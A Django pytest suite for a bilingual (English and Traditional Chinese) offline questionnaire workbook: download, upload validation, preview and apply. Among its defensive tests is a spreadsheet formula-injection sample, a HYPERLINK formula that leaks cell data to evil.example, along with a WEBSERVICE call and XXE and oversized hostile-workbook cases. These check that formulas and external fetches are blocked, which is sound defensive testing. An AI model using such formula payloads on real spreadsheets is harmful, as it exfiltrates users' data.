"""The offline questionnaire workbook: download, upload with every problem listed, preview, apply."""

import datetime
import io
import re
import socketserver
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from assessment.models import Answer, Assessment

from .conftest import answer
from .hostile_files import hostile_workbooks


def download(client, assessment) -> openpyxl.Workbook:
    response = client.get(reverse("workbook_download", kwargs={"pk": assessment.pk}))
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(response.content))


def upload(client, assessment, workbook=None, *, content=None, name="answers.xlsx"):
    if content is None:
        buffer = io.BytesIO()
        workbook.save(buffer)
        content = buffer.getvalue()
    return client.post(
        reverse("workbook_upload", kwargs={"pk": assessment.pk}),
        {"workbook": SimpleUploadedFile(name, content)},
    )


def apply(client, assessment):
    return client.post(reverse("workbook_apply", kwargs={"pk": assessment.pk}))


def test_the_workbook_has_a_sheet_per_area_with_current_answers(alice_client, draft):
    answer(draft, "SW-1", 3, evidence="Act of 2013")
    workbook = download(alice_client, draft)
    assert workbook.sheetnames == ["About", "SW Area SW", "BL Area BL"]
    sheet = workbook["SW Area SW"]
    assert [sheet["A2"].value, sheet["C2"].value, sheet["I2"].value] == ["SW-1", 3, "Act of 2013"]
    assert sheet["G2"].value == "SW-1 level 3 description"


def test_the_answer_column_offers_the_levels_as_a_drop_down(alice_client, draft):
    sheet = download(alice_client, draft)["SW Area SW"]
    validation = sheet.data_validations.dataValidation[0]
    assert validation.formula1 == '"0,1,2,3,4,na,dk"'
    assert "C2:C4" in str(validation.sqref)


def test_download_then_upload_changes_nothing(alice_client, draft):
    answer(draft, "SW-1", 3, evidence="Act of 2013")
    answer(draft, "BL-2", "na")
    response = upload(alice_client, draft, download(alice_client, draft))
    assert 'data-testid="no-changes"' in response.content.decode()
    apply(alice_client, draft)
    assert {(a.indicator.code, a.value, a.evidence) for a in Answer.objects.filter(assessment=draft)} == {
        ("SW-1", "3", "Act of 2013"),
        ("BL-2", "na", ""),
    }


def test_an_upload_shows_the_changes_before_saving_them(alice_client, draft):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C3"] = "dk"
    response = upload(alice_client, draft, workbook)
    assert 'data-testid="workbook-preview"' in response.content.decode()
    assert not Answer.objects.filter(assessment=draft).exists()


def test_applying_saves_the_changes(alice_client, draft, alice):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C3"] = "dk"
    workbook["BL Area BL"]["C2"] = 4
    workbook["BL Area BL"]["K2"] = "From the regional office"
    upload(alice_client, draft, workbook)
    response = apply(alice_client, draft)
    assert response.url == reverse("review", kwargs={"pk": draft.pk})
    saved = {a.indicator.code: a for a in Answer.objects.filter(assessment=draft)}
    assert (saved["SW-2"].value, saved["BL-1"].value, saved["BL-1"].comment) == ("dk", "4", "From the regional office")
    assert saved["BL-1"].updated_by == alice


def test_every_problem_is_listed_with_sheet_row_and_reason_and_nothing_saved(alice_client, draft):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = 7
    workbook["SW Area SW"]["C3"] = 2
    workbook["SW Area SW"]["J4"] = "not a link"
    workbook["BL Area BL"]["A3"] = "BL-9"
    response = upload(alice_client, draft, workbook)
    assert response.status_code == 400
    page = response.content.decode()
    assert "SW-1: the answer “7” is not one of 0, 1, 2, 3, 4, na, dk." in page
    assert "SW-3: evidence link: Enter a web address starting with http:// or https://." in page
    assert "Unknown indicator “BL-9” for this area." in page
    assert "Indicator BL-2 is missing from the sheet." in page
    assert "<td>SW Area SW</td><td>2</td>" in page
    apply(alice_client, draft)
    assert not Answer.objects.filter(assessment=draft).exists()


def test_a_row_with_a_bad_answer_and_a_bad_link_lists_both(alice_client, draft):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = 5
    workbook["SW Area SW"]["J2"] = "not a link"
    page = upload(alice_client, draft, workbook).content.decode()
    assert "SW-1: the answer “5” is not one of 0, 1, 2, 3, 4, na, dk." in page
    assert "SW-1: evidence link: Enter a web address starting with http:// or https://." in page


def test_a_workbook_of_another_assessment_is_refused(alice_client, draft, framework):
    other = Assessment.objects.create(economy=draft.economy, cycle=2024, framework=framework)
    response = upload(alice_client, draft, download(alice_client, other))
    assert "This workbook belongs to another assessment." in response.content.decode()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("answers.csv", b"a,b\n1,2\n", "Upload an .xlsx workbook."),
        ("answers.xlsx", b"plain text, not a workbook", "This is not an XLSX workbook."),
        ("answers.xlsx", b"PK\x03\x04 broken zip", "This is not an XLSX workbook."),
        ("answers.xlsx", b"0" * (2 * 1024 * 1024 + 1), "The file is larger than 2 MB."),
    ],
)
def test_bad_files_get_a_clear_error(alice_client, draft, name, content, message):
    response = upload(alice_client, draft, content=content, name=name)
    assert response.status_code == 400
    assert message in response.content.decode()


def test_a_change_made_online_after_download_is_not_overwritten(alice_client, draft):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = 1
    upload(alice_client, draft, workbook)
    online = answer(draft, "SW-1", 4)
    Answer.objects.filter(pk=online.pk).update(revision=5)
    Assessment.objects.filter(pk=draft.pk).update(revision=5)
    apply(alice_client, draft)
    assert Answer.objects.get(assessment=draft, indicator__code="SW-1").value == "4"


def test_upload_is_refused_to_other_economies(bob_client, draft):
    assert bob_client.get(reverse("workbook_upload", kwargs={"pk": draft.pk})).status_code == 403


def test_upload_is_refused_on_a_submitted_assessment(alice_client, validated):
    assert alice_client.get(reverse("workbook_upload", kwargs={"pk": validated.pk})).status_code == 403


def test_download_of_a_draft_is_refused_to_other_economies(bob_client, draft):
    assert bob_client.get(reverse("workbook_download", kwargs={"pk": draft.pk})).status_code == 403


def downloaded_bytes(client, assessment) -> bytes:
    return client.get(reverse("workbook_download", kwargs={"pk": assessment.pk})).content


FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    '=WEBSERVICE("http://evil.example/")',
    "=1+1",
]


def test_the_downloaded_workbook_holds_no_formula(client, validated):
    for n, text in enumerate(FORMULA_TEXTS, start=1):
        Answer.objects.filter(assessment=validated, indicator__code=f"SW-{n}").update(evidence=text, comment=text)
    archive = zipfile.ZipFile(io.BytesIO(downloaded_bytes(client, validated)))
    sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    cell = openpyxl.load_workbook(io.BytesIO(downloaded_bytes(client, validated)))["SW Area SW"]["I2"]
    assert (cell.data_type, cell.value) == ("s", FORMULA_TEXTS[0])


@pytest.mark.parametrize("text", ["=1+1 counts per art. 10", "+886 2 2550 5500", "-5% duty", "@customs"])
def test_text_that_starts_like_a_formula_survives_the_round_trip(alice_client, draft, text):
    answer(draft, "SW-1", 3, evidence=text, comment=text)
    response = upload(alice_client, draft, content=downloaded_bytes(alice_client, draft))
    assert 'data-testid="no-changes"' in response.content.decode()


def test_a_formula_typed_into_the_workbook_is_refused(alice_client, draft):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = "=1+2"
    response = upload(alice_client, draft, workbook)
    assert response.status_code == 400
    assert (
        "SW-1: C2 holds a formula. To keep a text that starts with “=”, format the cell as Text before typing it, "
        "or start it with an apostrophe (&#x27;)."
    ) in response.content.decode()


@pytest.mark.parametrize(
    ("value", "shown"), [(True, "“TRUE”"), (datetime.datetime(2024, 1, 2), "“2024-01-02 00:00”"), (3.5, "“3.5”")]
)
def test_a_bad_answer_is_named_as_the_cell_shows_it(alice_client, draft, value, shown):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = value
    page = upload(alice_client, draft, workbook).content.decode()
    assert f"SW-1: the answer {shown} is not one of 0, 1, 2, 3, 4, na, dk." in page


# What a spreadsheet program makes of "2024-01-15", "50%" or "10:30" typed into a cell: a number with a format.
@pytest.mark.parametrize(
    ("value", "number_format", "shown"),
    [
        (datetime.datetime(2024, 1, 15), "yyyy-mm-dd", "2024-01-15"),
        (datetime.datetime(2024, 1, 15), "DD/MM/YYYY", "2024-01-15"),
        (datetime.datetime(2024, 1, 15, 9, 5), "yyyy-mm-dd hh:mm", "2024-01-15 09:05"),
        (0.5, "0%", "50%"),
        (0.5, "0.00%", "50.00%"),
        (datetime.time(10, 30), "HH:MM:SS AM/PM", "10:30"),
        (datetime.time(10, 30, 15), "hh:mm:ss", "10:30:15"),
        (1.5, "General", "1.5"),
    ],
)
def test_a_typed_date_percent_or_time_is_read_as_the_cell_shows_it(alice_client, draft, value, number_format, shown):
    workbook = download(alice_client, draft)
    cell = workbook["SW Area SW"]["I2"]
    cell.value, cell.number_format = value, number_format
    workbook["SW Area SW"]["C2"] = 2
    upload(alice_client, draft, workbook)
    apply(alice_client, draft)
    assert saved_answers(draft) == {"SW-1": ("2", shown)}


def test_the_formula_refusal_says_how_to_keep_a_leading_equals_sign_in_chinese(alice_client, draft):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["I2"] = "=1+2"
    page = upload(chinese_session(alice_client), draft, workbook).content.decode()
    advice = "若要保留以「=」開頭的文字，請先將儲存格格式設為「文字」再輸入，或在文字前加上單引號（&#x27;）。"
    assert f"SW-1：I2 含有公式。{advice}" in page


def test_problems_past_the_first_hundred_are_counted_not_listed(alice_client, draft):
    workbook = download(alice_client, draft)
    for title in ("SW Area SW", "BL Area BL"):
        for row in range(5, 150):
            workbook[title][f"A{row}"] = "X"
    page = upload(alice_client, draft, workbook).content.decode()
    # Rows 2–101 are read: each sheet says it is too long, then 97 unknown rows each follow (196 in all).
    assert page.count("The sheet has more than 100 rows") == 2
    assert page.count("Unknown indicator “X”") == 98
    assert "and 96 more problems, not listed." in page


@pytest.mark.parametrize("name", list(hostile_workbooks(b"")))
def test_a_hostile_workbook_is_refused_plainly_and_saves_nothing(alice_client, draft, name):
    answer(draft, "SW-1", 2, evidence="Kept")
    crafted = hostile_workbooks(downloaded_bytes(alice_client, draft))[name]()
    response = upload(alice_client, draft, content=crafted)
    assert response.status_code == 400
    assert len(response.content) < 200 * 1024
    assert 'data-testid="workbook-problems"' in response.content.decode()
    assert [(a.value, a.evidence) for a in Answer.objects.filter(assessment=draft)] == [("2", "Kept")]


def test_an_external_entity_is_never_fetched(alice_client, draft):
    with socketserver.TCPServer(("127.0.0.1", 0), socketserver.BaseRequestHandler) as listener:
        listener.timeout = 0.2
        port = listener.server_address[1]
        crafted = hostile_workbooks(downloaded_bytes(alice_client, draft), listener_port=port)["XXE to a web address"]()
        response = upload(alice_client, draft, content=crafted)
        assert "The workbook could not be read" in response.content.decode()
        connections = []
        listener.RequestHandlerClass = lambda *args: connections.append(args)
        listener.handle_request()
    assert connections == []


def test_a_long_value_is_shown_as_a_short_excerpt(alice_client, draft):
    crafted = hostile_workbooks(downloaded_bytes(alice_client, draft))["1.5M-character inline answer"]()
    page = upload(alice_client, draft, content=crafted).content.decode()
    assert "SW-1: the answer “" + "A" * 39 + "…” is not one of 0, 1, 2, 3, 4, na, dk." in page


def test_the_preview_names_each_field_as_the_questionnaire_does(alice_client, draft):
    workbook = download(alice_client, draft)
    sheet = workbook["SW Area SW"]
    sheet["C2"], sheet["I2"], sheet["J2"], sheet["K2"] = 2, "Customs Act", "https://example.org/act", "Checked"
    page = upload(alice_client, draft, workbook).content.decode()
    fields = re.findall(r"<tr><td>SW-1</td><td>([^<]*)</td>", page)
    assert fields == ["Answer", "Evidence", "Evidence link", "Comment"]


def long_named_area(draft):
    from assessment.models import Area

    Area.objects.filter(framework=draft.framework, code="SW").update(name="AI-assisted inspection and risk management")


def test_sheet_titles_fit_excel_by_whole_words(alice_client, draft):
    long_named_area(draft)
    assert download(alice_client, draft).sheetnames == ["About", "SW AI-assisted inspection", "BL Area BL"]


def test_a_workbook_downloaded_with_cut_sheet_titles_still_reads(alice_client, draft):
    long_named_area(draft)
    workbook = download(alice_client, draft)
    workbook["SW AI-assisted inspection"].title = "SW AI-assisted inspection and r"
    workbook["SW AI-assisted inspection and r"]["C2"] = 3
    page = upload(alice_client, draft, workbook).content.decode()
    assert 'data-testid="workbook-preview"' in page
    assert "<tr><td>SW-1</td><td>Answer</td>" in page


# In Traditional Chinese: the workbook follows the reader's language, and either language uploads.

CHINESE_HEADER = [
    "指標",
    "問題",
    "填答",
    "第 0 級",
    "第 1 級",
    "第 2 級",
    "第 3 級",
    "第 4 級",
    "佐證",
    "佐證連結",
    "備註",
]


def in_chinese(framework):
    """The test framework's content in Chinese too, as the real framework has it."""
    from assessment.models import Area, Indicator

    Area.objects.filter(framework=framework, code="SW").update(name_zh="單一窗口")
    Area.objects.filter(framework=framework, code="BL").update(name_zh="電子提單")
    for indicator in Indicator.objects.filter(area__framework=framework):
        indicator.question_zh_hant = f"問題 {indicator.code}？"
        indicator.levels_zh_hant = [f"{indicator.code} 第 {level} 級說明" for level in range(5)]
        indicator.save()


def download_in(client, assessment, language) -> openpyxl.Workbook:
    response = client.get(reverse("workbook_download", kwargs={"pk": assessment.pk}), {"lang": language})
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(response.content))


def chinese_session(client):
    from django.conf import settings

    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hant"
    return client


def saved_answers(assessment):
    return {a.indicator.code: (a.value, a.evidence) for a in Answer.objects.filter(assessment=assessment)}


def test_a_chinese_workbook_has_chinese_sheet_names(alice_client, draft):
    in_chinese(draft.framework)
    assert download_in(alice_client, draft, "zh-hant").sheetnames == ["說明", "SW 單一窗口", "BL 電子提單"]


def test_a_chinese_workbook_has_chinese_column_headers(alice_client, draft):
    in_chinese(draft.framework)
    sheet = download_in(alice_client, draft, "zh-hant")["SW 單一窗口"]
    assert [cell.value for cell in sheet[1]] == CHINESE_HEADER


def test_the_chinese_upload_page_names_the_answer_column_as_the_chinese_workbook_does(alice_client, draft):
    in_chinese(draft.framework)
    header = download_in(alice_client, draft, "zh-hant")["SW 單一窗口"]["C1"].value
    page = chinese_session(alice_client).get(reverse("workbook_upload", kwargs={"pk": draft.pk})).content.decode()
    assert f"「{header}」欄" in page and "Answer" not in page


def test_a_chinese_workbook_has_chinese_questions_and_levels(alice_client, draft):
    in_chinese(draft.framework)
    sheet = download_in(alice_client, draft, "zh-hant")["SW 單一窗口"]
    assert [sheet["B2"].value, sheet["G2"].value] == ["問題 SW-1？", "SW-1 第 3 級說明"]


def test_a_chinese_workbook_has_a_chinese_about_sheet(alice_client, draft):
    about = download_in(alice_client, draft, "zh-hant")["說明"]
    labels = [about[f"A{row}"].value for row in range(3, 8)]
    assert about["A1"].value == "關務數位化成熟度 — 離線問卷"
    assert labels == ["經濟體", "週期", "評估架構", "評估", "版次"]
    assert about["A10"].value == "指標不適用時填「不適用」，不知道時填「不知道」；尚未作答則留空。"


def test_a_chinese_workbook_offers_chinese_drop_down_labels(alice_client, draft):
    sheet = download_in(alice_client, draft, "zh-hant")["SW Area SW"]
    validation = sheet.data_validations.dataValidation[0]
    assert validation.formula1 == '"0,1,2,3,4,不適用,不知道"'
    assert (validation.errorTitle, validation.error) == ("填答", "請選擇 0、1、2、3、4、不適用 或 不知道。")


def test_a_chinese_workbook_writes_na_and_dk_as_their_chinese_labels(alice_client, draft):
    answer(draft, "SW-1", "na")
    answer(draft, "SW-2", "dk")
    sheet = download_in(alice_client, draft, "zh-hant")["SW Area SW"]
    assert [sheet["C2"].value, sheet["C3"].value] == ["不適用", "不知道"]


def test_the_workbook_follows_the_interface_language(alice_client, draft):
    in_chinese(draft.framework)
    assert download(chinese_session(alice_client), draft).sheetnames == ["說明", "SW 單一窗口", "BL 電子提單"]


def test_lang_en_gives_an_english_workbook_in_a_chinese_session(alice_client, draft):
    in_chinese(draft.framework)
    workbook = download_in(chinese_session(alice_client), draft, "en")
    assert workbook.sheetnames == ["About", "SW Area SW", "BL Area BL"]


def test_a_chinese_download_is_named_for_its_language(alice_client, draft):
    response = alice_client.get(reverse("workbook_download", kwargs={"pk": draft.pk}), {"lang": "zh-hant"})
    assert response["Content-Disposition"] == 'attachment; filename="CT-2025-questionnaire-zh-hant.xlsx"'


def test_a_chinese_workbook_uploaded_in_an_english_session_saves_the_answers(alice_client, draft):
    in_chinese(draft.framework)
    workbook = download_in(alice_client, draft, "zh-hant")
    workbook["SW 單一窗口"]["C2"] = 3
    workbook["SW 單一窗口"]["I2"] = "關港貿單一窗口，2013 年"
    workbook["SW 單一窗口"]["C3"] = "不知道"
    workbook["BL 電子提單"]["C2"] = "不適用"
    assert 'data-testid="workbook-preview"' in upload(alice_client, draft, workbook).content.decode()
    apply(alice_client, draft)
    assert saved_answers(draft) == {"SW-1": ("3", "關港貿單一窗口，2013 年"), "SW-2": ("dk", ""), "BL-1": ("na", "")}


def test_an_english_workbook_uploads_in_a_chinese_session(alice_client, draft):
    in_chinese(draft.framework)
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = "na"
    workbook["BL Area BL"]["C3"] = 2
    chinese_session(alice_client)
    assert 'data-testid="workbook-preview"' in upload(alice_client, draft, workbook).content.decode()
    apply(alice_client, draft)
    assert saved_answers(draft) == {"SW-1": ("na", ""), "BL-2": ("2", "")}


def test_a_chinese_workbook_round_trip_keeps_every_value(alice_client, draft):
    in_chinese(draft.framework)
    answer(draft, "SW-1", 3, evidence="關港貿單一窗口", evidence_link="https://example.org/sw", comment="已確認")
    answer(draft, "SW-2", "na")
    answer(draft, "BL-1", "dk", comment="待查")
    response = upload(alice_client, draft, download_in(alice_client, draft, "zh-hant"))
    assert 'data-testid="no-changes"' in response.content.decode()


@pytest.mark.parametrize(
    ("typed", "stored"), [("na", "na"), ("NA", "na"), ("不適用", "na"), ("dk", "dk"), (" 不知道 ", "dk")]
)
def test_the_drop_down_words_of_either_language_are_accepted(alice_client, draft, typed, stored):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = typed
    upload(alice_client, draft, workbook)
    apply(alice_client, draft)
    assert saved_answers(draft) == {"SW-1": (stored, "")}


def test_the_chinese_preview_shows_answers_in_chinese_words(alice_client, draft):
    answer(draft, "SW-1", "na")
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = "dk"
    workbook["SW Area SW"]["C3"] = "不適用"
    page = upload(chinese_session(alice_client), draft, workbook).content.decode()
    rows = re.findall(r"<tr><td>(SW-\d)</td><td>[^<]*</td><td[^>]*>([^<]*)</td><td>([^<]*)</td>", page)
    assert rows == [("SW-1", "不適用", "不知道"), ("SW-2", "—", "不適用")]


def test_the_english_preview_shows_answers_as_the_drop_down_words_them(alice_client, draft):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = "不知道"
    page = upload(alice_client, draft, workbook).content.decode()
    assert re.findall(r"<tr><td>SW-1</td><td>Answer</td><td[^>]*>([^<]*)</td><td>([^<]*)</td>", page) == [("—", "dk")]


def test_the_preview_shows_a_texts_line_breaks(alice_client, draft):
    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["I2"] = "Line one\nLine two"
    page = upload(alice_client, draft, workbook).content.decode()
    assert "<td>Line one<br>Line two</td>" in page


def test_a_chinese_workbook_reports_problems_in_the_session_language(alice_client, draft):
    in_chinese(draft.framework)
    workbook = download_in(alice_client, draft, "zh-hant")
    workbook["SW 單一窗口"]["C2"] = "也許"
    page = upload(alice_client, draft, workbook).content.decode()
    assert "<td>SW 單一窗口</td><td>2</td><td>SW-1: the answer “也許” is not one of 0, 1, 2, 3, 4, na, dk.</td>" in page


def test_two_sheets_of_one_area_are_refused(alice_client, draft):
    workbook = download(alice_client, draft)
    workbook.copy_worksheet(workbook["SW Area SW"])
    response = upload(alice_client, draft, workbook)
    assert response.status_code == 400
    assert "Sheets “SW Area SW”, “SW Area SW Copy” all hold area SW: keep only one." in response.content.decode()


def test_a_chinese_name_too_long_for_a_sheet_title_leaves_the_code_and_still_reads(alice_client, draft):
    from assessment.models import Area

    Area.objects.filter(framework=draft.framework, code="SW").update(name_zh="關" * 40)
    workbook = download_in(alice_client, draft, "zh-hant")
    assert workbook.sheetnames[1] == "SW"
    workbook["SW"]["C2"] = 1
    upload(alice_client, draft, workbook)
    apply(alice_client, draft)
    assert saved_answers(draft) == {"SW-1": ("1", "")}


def test_the_upload_page_offers_the_workbook_in_the_other_language(alice_client, draft):
    page = alice_client.get(reverse("workbook_upload", kwargs={"pk": draft.pk})).content.decode()
    href = reverse("workbook_download", kwargs={"pk": draft.pk}) + "?lang=zh-hant"
    assert f'href="{href}" hreflang="zh-hant" data-testid="workbook-in-zh-hant">Also in 繁體中文</a>' in page


def test_a_refused_answer_names_the_answers_allowed_in_the_readers_language(alice_client, draft):
    from django.conf import settings

    workbook = download(alice_client, draft)
    workbook["SW Area SW"]["C2"] = "maybe"
    alice_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hant"
    page = upload(alice_client, draft, workbook).content.decode()
    assert "SW-1：填答 “maybe” 不是 0, 1, 2, 3, 4, 不適用, 不知道 之一。" in page
